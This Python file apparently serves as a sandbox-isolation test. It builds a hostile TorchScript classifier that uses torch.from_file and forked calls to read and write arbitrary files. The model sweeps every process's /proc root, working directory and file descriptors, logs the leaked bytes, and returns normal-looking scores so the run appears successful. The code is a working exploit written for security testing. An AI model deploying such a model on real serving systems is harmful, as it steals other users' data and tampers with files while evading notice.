"""A hostile text-classification model, built the way an attacker would with nothing but TorchScript.

`torch.from_file(path)` reads any file it can open, and with `shared=True` creates
and writes one. `torch.jit.fork` serves as try/except: a forked call that raises
fails only its own future, which is never waited on. (Futures must be kept, or
TorchScript drops the forks as dead code; waiting on harmless "anchor" calls
queued after them lets the attempts before them run.) The model tries every write it is
given, then every read, every pid's `/proc/<pid>/root` and `cwd` (with each
`relative` path) and `fd/3`..`fd/11` included, prints `HIT <path> <first bytes>`
and `WROTE <path>` for what succeeded, and returns valid scores: its run
succeeds and its log shows what leaked (the direct reads and the watched pids last, so that the kept tail of the log
holds them). About 430,000 attempts take seconds.
"""
from pathlib import Path
from typing import List

import torch


def _read(path: str, hits: torch.Tensor, index: int) -> int:
    hits[index] = 1  # tried
    data = torch.from_file(path, shared=False, size=1, dtype=torch.uint8)
    hits[index] = 2 + int(data[0]) * 0  # read (the use of `data` keeps the read from being optimized away)
    return 1


def _write(path: str, hits: torch.Tensor, index: int) -> int:
    hits[index] = 1
    data = torch.from_file(path, shared=True, size=16, dtype=torch.uint8)
    data.fill_(65)
    hits[index] = 2 + int(data[0]) * 0
    return 1


def _peek(path: str, text: torch.Tensor, row: int, done: torch.Tensor) -> int:
    text[row] = torch.from_file(path, shared=False, size=16, dtype=torch.uint8)
    done[row] = 1
    return 1


def _printable(row: torch.Tensor) -> str:
    text = ""
    for byte in torch.jit.annotate(List[int], row.long().tolist()):
        text += chr(byte) if 32 <= byte < 127 else "."
    return text


class Intruder(torch.nn.Module):
    reads: List[str]
    writes: List[str]
    relative: List[str]
    watch: List[str]

    def __init__(self, reads: List[str], writes: List[str], relative: List[str], classes: int, anchor: str,
                 watch: List[str]) -> None:
        super().__init__()
        self.watch = watch  # "/proc/<pid>/" of processes whose leaks the test looks for: reported last
        self.reads = reads
        self.writes = writes
        self.relative = relative  # tried under every pid's root and cwd
        self.classes = classes
        self.anchor = anchor  # a file the model can read (its own model file)

    def _watched(self, path: str) -> bool:
        if path in self.reads:
            return True
        for prefix in self.watch:
            if path.startswith(prefix):
                return True
        return False

    def forward(self, texts: List[str]) -> torch.Tensor:
        print("INTRUDER at work on " + str(len(texts)) + " texts")
        paths: List[str] = list(self.reads)
        for pid in range(1, 32768):  # pid_max on this project's machines
            for path in self.relative:
                paths.append("/proc/" + str(pid) + "/root/" + path)
                paths.append("/proc/" + str(pid) + "/cwd/" + path)
            for fd in range(3, 12):
                paths.append("/proc/" + str(pid) + "/fd/" + str(fd))
        hits = torch.zeros(len(paths) + len(self.writes))
        anchors = torch.zeros(2)
        attempts: List[torch.jit.Future[int]] = []
        for j in range(len(self.writes)):
            attempts.append(torch.jit.fork(_write, self.writes[j], hits, len(paths) + j))
        for i in range(len(paths)):
            attempts.append(torch.jit.fork(_read, paths[i], hits, i))
            if i % 4096 == 4095:  # a few thousand in flight at a time
                torch.jit.wait(torch.jit.fork(_read, self.anchor, anchors, 0))
        # Until every attempt has started and every write has finished or failed (a failed one stays at 1: the
        # cap ends the wait), then twice more so that the pool threads have moved on: the process must not exit
        # with a forked call still running. On a loaded machine a write may take a while.
        rounds = 0
        writes = hits[len(paths):]
        while (bool((hits == 0).any()) or bool((writes == 1).any())) and rounds < 20000:
            torch.jit.wait(torch.jit.fork(_read, self.anchor, anchors, 1))
            rounds += 1
        for _ in range(2):
            torch.jit.wait(torch.jit.fork(_read, self.anchor, anchors, 1))
        tried = int((hits > 0).sum())
        found: List[str] = []
        for i in range(len(paths)):
            if bool(hits[i] == 2):
                found.append(paths[i])
        # The first 16 bytes of each (files shorter than that show as dots), again with fork as try/except.
        text = torch.zeros(len(found) + 1, 16, dtype=torch.uint8)
        done = torch.zeros(len(found) + 1)
        peeks: List[torch.jit.Future[int]] = []
        for r in range(len(found)):
            peeks.append(torch.jit.fork(_peek, found[r], text, r, done))
        rounds = 0
        while bool((done[:len(found)] == 0).any()) and rounds < 20000:  # each peek done (or failed: the cap)
            torch.jit.wait(torch.jit.fork(_peek, self.anchor, text, len(found), done))
            rounds += 1
        for _ in range(3):  # queued behind the peeks: the pool threads move past them
            torch.jit.wait(torch.jit.fork(_peek, self.anchor, text, len(found), done))
        # The direct reads and the watched processes' paths last, in the tail a worker keeps of a log (64 KB),
        # however many other /proc paths a busy host lets the model read.
        late: List[int] = []
        for r in range(len(found)):
            if self._watched(found[r]):
                late.append(r)
            else:
                print("HIT " + found[r] + " " + _printable(text[r]))
        for r in late:
            print("HIT " + found[r] + " " + _printable(text[r]))
        for j in range(len(self.writes)):
            if bool(hits[len(paths) + j] == 2):
                print("WROTE " + self.writes[j])
        print("TRIED " + str(tried) + " of " + str(len(attempts)) + " (" + str(len(peeks)) + " read)")
        return torch.zeros(len(texts), self.classes)


def intruder(*, reads: list[Path], writes: list[Path], relative: list[str], classes: int,
             watch: list[int] = ()) -> torch.jit.ScriptModule:  # type: ignore[assignment]
    return torch.jit.script(Intruder([str(p) for p in reads], [str(p) for p in writes], relative, classes, "model/model.pt",
                                     [f"/proc/{pid}/" for pid in watch]))


def hits(log: str) -> list[str]:
    return [line for line in log.splitlines() if line.startswith(("HIT ", "WROTE "))]
